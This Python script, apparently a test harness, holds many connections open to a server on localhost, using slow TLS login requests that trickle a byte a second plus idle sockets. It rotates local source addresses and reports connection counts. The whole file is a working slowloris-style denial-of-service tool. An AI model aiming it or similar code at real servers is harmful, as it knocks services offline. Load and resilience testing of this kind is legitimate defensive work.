"""Visitors who want to stop the page, in a process of their own.

Run as a module: PORT SLOW IDLE FIRST LAST. ``SLOW`` connections encrypt, begin a login and send
a byte a second, ``IDLE`` send nothing; whichever is closed is opened again. They come from
127.0.0.FIRST to 127.0.0.LAST. Prints a line with the number of connections that are open for each
line that it reads, and ends at the end of its input.
"""

import asyncio
import resource
import ssl
import sys

BEGINNING = b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n"
PAUSE = 0.2


class Attack:
    """All of them."""

    def __init__(self, port: int, addresses: list[str]) -> None:
        self.port, self.addresses = port, addresses
        self.open = 0
        self.opened = 0
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE

    async def keep_open(self, number: int, context: ssl.SSLContext | None) -> None:
        source = (self.addresses[number % len(self.addresses)], 0)
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", self.port, ssl=context, local_addr=source
                )
            except OSError:
                await asyncio.sleep(PAUSE)
                continue
            self.open += 1
            self.opened += 1
            try:
                if context is None:
                    await reader.read()
                else:
                    await self.send_slowly(reader, writer)
            except OSError:
                pass
            finally:
                self.open -= 1
                writer.transport.abort()
            await asyncio.sleep(PAUSE)

    async def send_slowly(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(BEGINNING)
        while not reader.at_eof():
            writer.write(b"x")
            await writer.drain()
            try:
                async with asyncio.timeout(1):
                    await reader.read()
            except TimeoutError:
                pass


async def main(port: int, slow: int, idle: int, first: int, last: int) -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(port, [f"127.0.0.{number}" for number in range(first, last + 1)])
    work = [attack.keep_open(number, attack.context) for number in range(slow)]
    work += [attack.keep_open(number, None) for number in range(idle)]
    tasks = [asyncio.create_task(one) for one in work]
    asked = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(asked), sys.stdin)
    while await asked.readline():
        print(attack.open, attack.opened, flush=True)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main(*map(int, sys.argv[1:])))
